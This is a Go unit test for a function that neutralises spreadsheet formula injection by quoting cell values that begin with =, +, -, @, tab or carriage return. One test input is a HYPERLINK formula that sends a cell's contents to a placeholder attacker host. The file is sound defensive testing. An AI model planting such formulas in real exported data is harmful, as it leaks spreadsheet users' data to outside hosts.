package cell

import "testing"

func TestText(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?"&A1,"点击")`, `'=HYPERLINK("http://evil.example/?"&A1,"点击")`},
		{"+1+1", "'+1+1"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"-12.50", "-12.50"}, // a number written as text stays a number
		{"+3", "+3"},
		{"1e-05", "1e-05"},
		{"42", "42"},
		{"", ""},
		{"办公室 101", "办公室 101"},
		{"a=b", "a=b"}, // only the first character counts
		{"-", "'-"},
		{"-Inf", "'-Inf"},
	} {
		if got := Text(tc.in); got != tc.want {
			t.Errorf("Text(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
	row := Row([]string{"=1", "ok"})
	if row[0] != "'=1" || row[1] != "ok" {
		t.Errorf("Row = %q", row)
	}
}
